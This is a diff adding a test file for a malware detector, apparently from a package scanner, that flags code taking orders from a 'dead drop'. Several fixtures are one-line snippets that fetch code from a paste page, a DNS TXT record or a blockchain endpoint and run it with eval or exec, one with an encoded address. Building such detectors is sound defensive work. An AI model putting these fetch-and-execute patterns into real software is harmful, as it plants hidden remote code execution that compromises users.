@@ -1,0 +1,52 @@
+import { examine } from '../../../test/examine.ts';
+import { takesOrdersFromDeadDrop } from './takes-orders-from-dead-drop.ts';
+
+/** Written in parts: no test names a host that somebody answers on. */
+const PAGE = ['telegra', 'ph'].join('.');
+const CHAIN = ['mainnet', 'infura', 'io'].join('.');
+
+examine(takesOrdersFromDeadDrop, {
+  speaks: [
+    {
+      when: 'a page names the address',
+      files: { 'index.js': `fetch('https://${PAGE}/inert').then(r => r.text()).then(t => fetch(t))` },
+      weight: 'strong',
+      says: ['a page that anybody'],
+    },
+    {
+      when: 'a name record is run',
+      files: { 'index.js': `require('dns').resolveTxt('inert.invalid', (e, r) => require('child_process').exec(r[0][0]))` },
+      weight: 'proof',
+      says: ['a name record'],
+    },
+    {
+      when: 'a chain holds the code',
+      files: { 'index.js': `fetch('https://${CHAIN}/', { method: 'POST' }).then(r => r.json()).then(j => eval(j.result))` },
+      weight: 'proof',
+      says: ['a block chain'],
+    },
+    {
+      when: 'the address is encoded',
+      files: {
+        'index.js': `fetch(atob('${Buffer.from(`https://${PAGE}/inert`).toString('base64')}')).then(r => r.text()).then(t => eval(t))`,
+      },
+      weight: 'proof',
+    },
+  ],
+  silent: [
+    {
+      when: 'what was read is shown',
+      files: { 'index.js': `fetch('https://${PAGE}/inert').then(r => r.text()).then(t => console.log(t))` },
+    },
+    {
+      when: 'what was read is sent to a host of its own',
+      files: {
+        'index.js': `fetch('https://${CHAIN}/').then(r => r.text()).then(t => fetch('https://api.specimen.invalid/', { method: 'POST', body: t }))`,
+      },
+    },
+    {
+      when: 'a record is looked up and compared',
+      files: { 'index.js': `require('dns').resolveTxt('inert.invalid', (e, r) => console.log(r))` },
+    },
+  ],
+});
